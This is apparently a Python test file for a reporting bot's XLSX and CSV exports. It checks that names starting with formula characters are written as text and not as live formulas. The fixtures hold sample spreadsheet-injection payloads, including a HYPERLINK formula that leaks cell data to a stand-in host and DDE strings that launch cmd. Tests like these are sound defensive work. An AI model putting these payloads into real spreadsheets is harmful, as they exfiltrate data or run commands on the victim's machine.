"""No live formula leaves the database in a spreadsheet: unit and person names (and any text)
starting with = + - @ are written as text in every XLSX sheet and neutralised in every CSV
(OWASP), the original text stays visible; a control character in a name no longer makes the
export fail (IllegalCharacterError)."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlmodel import col
from typer.testing import CliRunner

from bot.cli.main import app
from bot.export import write_csv, write_xlsx
from storage.db import Database
from storage.models import Person, Unit
from storage.sheets import CsvWriter, csv_field
from tests.figures_fixtures import reference_tree, utc
from tests.test_people_cli import cli as people_cli

AS_OF = utc(2016, 10, 15, 12, 0)
HOSTILE = {
    "C11": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "C12": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C13": "+84 912 345 678",
    "H2": "-2+3 Thành ủy",
    "C21": "\tTab ẩn",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


async def hostile_world(db: Database) -> int:
    async with db.write() as session:
        ref = await reference_tree(session)
        for code, name in HOSTILE.items():
            await session.execute(update(Unit).where(col(Unit.code) == code).values(name=name))
        # A control character that openpyxl refuses to write, in a unit and a person's name.
        await session.execute(
            update(Unit).where(col(Unit.code) == "H1").values(name="Huyện\x07 ủy\x1b H1")
        )
        await session.execute(update(Person).values(full_name="=1+1 Người báo cáo"))
        return ref.campaign_id


async def test_no_sheet_has_a_formula_and_the_text_reads_as_stored(
    db: Database, tmp_path: Path
) -> None:
    campaign_id = await hostile_world(db)
    out = tmp_path / "out.xlsx"
    async with db.read() as session:
        await write_xlsx(session=session, campaign_id=campaign_id, as_of=AS_OF, output=out)
    workbook = load_workbook(out)
    seen: set[str] = set()
    try:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        if cell.value.startswith(FORMULA_START):
                            assert cell.quotePrefix, (sheet.title, cell.coordinate)
    finally:
        workbook.close()
    for name in HOSTILE.values():
        assert name in seen  # exactly as stored, not with an added apostrophe
    assert "Huyện ủy H1" in seen  # the control characters were dropped, the export did not fail


async def test_the_csv_export_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    campaign_id = await hostile_world(db)
    out = tmp_path / "out.csv"
    async with db.read() as session:
        await write_csv(session=session, campaign_id=campaign_id, as_of=AS_OF, output=out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    for name in HOSTILE.values():
        assert "'" + name in fields


def test_csv_writer_and_field() -> None:
    assert csv_field("=1+1") == "'=1+1"
    assert csv_field("Chi bộ 1") == "Chi bộ 1"
    assert csv_field(-5) == -5  # numbers are numbers
    assert csv_field("\rx") == "'\rx"

    class Sink:
        def __init__(self) -> None:
            self.text = ""

        def write(self, text: str) -> int:
            self.text += text
            return len(text)

    sink = Sink()
    CsvWriter(sink).writerow(["@x", "y", 3])  # type: ignore[arg-type]
    assert sink.text == "'@x,y,3\r\n"


cli = people_cli  # the fixture: a fresh database with a small tree, through `cadrebot init`


def test_the_invite_csv_neutralises_unit_names(cli: tuple[CliRunner, str], tmp_path: Path) -> None:
    runner, url = cli

    async def rename() -> None:
        db = Database.from_url(url)
        try:
            async with db.write() as session:
                await session.execute(
                    update(Unit).where(col(Unit.code) == "X1").values(name="=cmd|'/C calc'!A0")
                )
        finally:
            await db.dispose()

    asyncio.run(rename())
    out = tmp_path / "invites.csv"
    command = ["invite", "create", "--role", "reporter", "--all-units", "--level", "co_so"]
    result = runner.invoke(app, [*command, "--output", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["X1"] == "'=cmd|'/C calc'!A0"
    assert not [f for row in rows for f in row if f.startswith(FORMULA_START)]


# -- the import path: text typed on a paper report --------------------------------------------

TYPED = {  # (first paper, corrected paper) presenters, as typed in the cells
    "TU": ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "+Đ/c Hùng, Bí thư"),
    "H1": ("@SUM(1+1)*cmd|' /C calc'!A0", "-Đ/c Lan"),
}


def _paper(path: Path, column: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(
            ["Mã đơn vị", "session_date", "duration_halfdays", "attended", "essays", "presenter"]
        )
        out.writerow(["TU", "5/6/2016", 2, 48, 45, TYPED["TU"][column]])
        out.writerow(["H1", "28/7/2016", 2, 38, 36, TYPED["H1"][column]])
    return path


def test_formula_text_typed_on_paper_is_stored_as_typed_and_every_export_keeps_it_text(
    database_url: str, tmp_path: Path
) -> None:
    """`reports import` stores "=HYPERLINK(...)", "@SUM(...)", "+...", "-..." exactly as typed;
    `cadrebot export` (XLSX, CSV) and the /xuat workbook show it as text, never a formula."""
    from bot.core.jobs import run_job
    from bot.core.turn import Runtime
    from storage.models import Report, ReportVersion, metadata
    from storage.settings import Settings
    from tests.test_exports_cli import _invoke
    from tests.test_report_import import build_world

    async def build() -> tuple[int, int]:
        db = Database.from_url(database_url)
        try:
            async with db.engine.begin() as conn:
                await conn.run_sync(metadata.create_all)
            async with db.write() as session:
                world = await build_world(session)
                return world.admin_id, world.campaign_id
        finally:
            await db.dispose()

    admin_id, campaign_id = asyncio.run(build())
    admin = str(admin_id)
    for column, counts in ((0, "2 báo cáo mới, 0"), (1, "0 báo cáo mới, 2 báo cáo cập nhật")):
        paper = _paper(tmp_path / f"giay{column}.csv", column)
        command = ["reports", "import", str(paper), "--deliverable", "hoi_nghi", "--as", admin]
        code, stdout, stderr = _invoke(database_url, *command)
        assert code == 0, stdout + stderr
        assert counts in stdout

    async def stored() -> dict[str, list[object]]:
        db = Database.from_url(database_url)
        try:
            async with db.read() as session:
                rows = await session.execute(
                    select(col(Unit.code), col(ReportVersion.answers))
                    .join(Report, col(Report.unit_id) == col(Unit.id))
                    .join(ReportVersion, col(ReportVersion.report_id) == col(Report.id))
                    .order_by(col(ReportVersion.version))
                )
                found: dict[str, list[object]] = {}
                for code, answers in rows.all():
                    found.setdefault(code, []).append(answers["presenter"])
                return found
        finally:
            await db.dispose()

    assert asyncio.run(stored()) == {code: list(texts) for code, texts in TYPED.items()}

    typed = {text for texts in TYPED.values() for text in texts}
    workbooks = []
    for name in ("cli.xlsx", "cli.csv"):
        out = tmp_path / name
        fmt = name.rsplit(".", 1)[1]
        command = ["export", "--campaign", "13-KH/TU", "--format", fmt, "--output", str(out)]
        code, stdout, stderr = _invoke(database_url, *command)
        assert code == 0, stdout + stderr
        if fmt == "xlsx":
            workbooks.append(out.read_bytes())
        else:
            with out.open(encoding="utf-8-sig", newline="") as handle:
                fields = [field for row in csv.reader(handle) for field in row]
            assert not [f for f in fields if f.startswith(FORMULA_START)]
            assert not typed & set(fields)  # a typed text there would be neutralised ('=...)
            for _, current in TYPED.values():  # the units' current presenters, neutralised
                assert "'" + current in fields

    async def xuat() -> bytes:
        db = Database.from_url(database_url)
        try:
            runtime = Runtime(db=db, clock=None, settings=Settings(_env_file=None))  # type: ignore[arg-type]
            entry = {
                "job": "export",
                # After the imports, which the command line stamps with the system clock.
                "at": "2099-01-01T00:00:00+00:00",
                "params": {
                    "campaign_id": campaign_id,
                    "reference": "13-KH/TU",
                    "name": "Học tập",
                    "timezone": "Asia/Ho_Chi_Minh",
                    "root_path": None,
                    "where": "toàn bộ",
                    "filename": "13-KH-TU_toan-bo.xlsx",
                },
            }
            [output] = await run_job(runtime, entry)
            return bytes(output.data)  # type: ignore[union-attr]
        finally:
            await db.dispose()

    workbooks.append(asyncio.run(xuat()))
    for data in workbooks:  # `cadrebot export` and /xuat
        workbook = load_workbook(io.BytesIO(data))
        seen: dict[str, set[str]] = {}
        try:
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            seen.setdefault(cell.value, set()).add(sheet.title)
            units = list(workbook["Đơn vị"].iter_rows())
            titles = [cell.value for cell in units[1]]
            code, presenter = titles.index("Mã đơn vị"), titles.index("Báo cáo viên")
            cells = {row[code].value: row[presenter] for row in units[2:]}
        finally:
            workbook.close()
        # The units sheet shows each unit's current presenter (the corrected paper's), as typed
        # and as text; the corrections sheet shows each presenter, old and new.
        for unit, (first, current) in TYPED.items():
            assert cells[unit].value == current and cells[unit].data_type == "s"
            assert cells[unit].quotePrefix
            assert seen[current] == {"Đơn vị", "Lịch sử thay đổi"}
            assert seen[first] == {"Lịch sử thay đổi"}
